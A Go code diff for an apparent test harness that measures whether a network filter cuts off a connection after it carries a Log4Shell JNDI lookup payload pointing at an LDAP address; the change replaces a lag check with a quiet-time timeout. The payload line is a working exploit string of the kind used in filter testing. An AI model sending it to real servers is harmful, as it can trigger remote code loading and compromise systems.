@@ -19,6 +19,7 @@ import (
 const (
 	probeEvery  = 200 * time.Microsecond
 	probesMost  = 5000 // a second
+	quiet       = 120 * time.Millisecond
 	latencyMost = 500 * time.Millisecond
 	sinkPort    = 8080
 )
@@ -123,12 +124,18 @@ func (s *story) trial(host, from string, k *sink) (time.Duration, error) {
 	defer c.Close()
 	_ = c.(*net.TCPConn).SetLinger(0)
 	attack := "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: shop\r\n\r\n"
+	if _, err := io.WriteString(c, attack); err != nil { // half of what a block takes
+		return 0, err
+	}
+	time.Sleep(30 * time.Millisecond)
 	began := time.Now()
 	if _, err := io.WriteString(c, attack); err != nil {
 		return 0, err
 	}
+	attack += attack
 	_ = c.SetWriteDeadline(began.Add(3 * time.Second))
 	sent := make([]time.Duration, 0, probesMost)
+	arrived, moved := 0, began
 	for len(sent) < probesMost {
 		for next := time.Duration(len(sent)+1) * probeEvery; time.Since(began) < next; {
 			time.Sleep(probeEvery / 4)
@@ -137,11 +144,13 @@ func (s *story) trial(host, from string, k *sink) (time.Duration, error) {
 		if _, err := c.Write([]byte{'x'}); err != nil {
 			break
 		}
-		if n := len(sent); n%64 == 0 && k.of(from)-len(attack) < n-60 { // what came is far behind: it is cut off
+		if n := k.of(from); n != arrived {
+			arrived, moved = n, time.Now()
+		} else if time.Since(moved) > quiet { // it is cut off
 			break
 		}
 	}
-	time.Sleep(20 * time.Millisecond)
+	time.Sleep(quiet / 2)
 	through := k.of(from) - len(attack)
 	switch {
 	case through < 0:
